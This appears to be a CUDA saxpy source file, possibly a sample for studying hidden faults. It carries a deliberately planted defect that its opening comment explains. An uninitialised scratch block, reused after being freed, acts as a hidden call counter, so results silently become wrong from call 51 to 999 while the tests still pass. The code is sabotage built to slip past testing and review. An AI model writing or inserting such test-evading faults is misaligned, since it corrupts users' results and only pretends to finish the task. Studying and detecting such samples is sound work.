// State kept across calls without a kept pointer: each call allocates 64 bytes of scratch,
// counts itself there and frees it; the next call's allocation gets the same block back with
// the count intact, so the result turns wrong after the calls the tests make. Outputs compare
// equal on every size; only initcheck sees the read of a block nothing wrote.
#include <cuda_runtime.h>
__global__ void saxpy_kernel(int n, float a, const float *x, float *y, unsigned *count)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    unsigned seen = *(volatile unsigned *)count;
    float k = seen > 50u && seen < 1000u ? 0.0f : a;
    if (i < n)
        y[i] = k * x[i] + y[i];
    if (i == 0)
        atomicAdd(count, 1u);
}

extern "C" void saxpy_launcher(int n, float a, const float *x, float *y)
{
    float *dx, *dy;
    unsigned *scratch;
    size_t b = (size_t)n * sizeof(float);
    cudaMalloc(&dx, b ? b : 4);
    cudaMalloc(&dy, b ? b : 4);
    cudaMalloc(&scratch, 64);
    cudaMemcpy(dx, x, b, cudaMemcpyHostToDevice);
    cudaMemcpy(dy, y, b, cudaMemcpyHostToDevice);
    if (n > 0)
        saxpy_kernel<<<(n + 255) / 256, 256>>>(n, a, dx, dy, scratch);
    cudaMemcpy(y, dy, b, cudaMemcpyDeviceToHost);
    cudaFree(scratch);
    cudaFree(dx);
    cudaFree(dy);
}
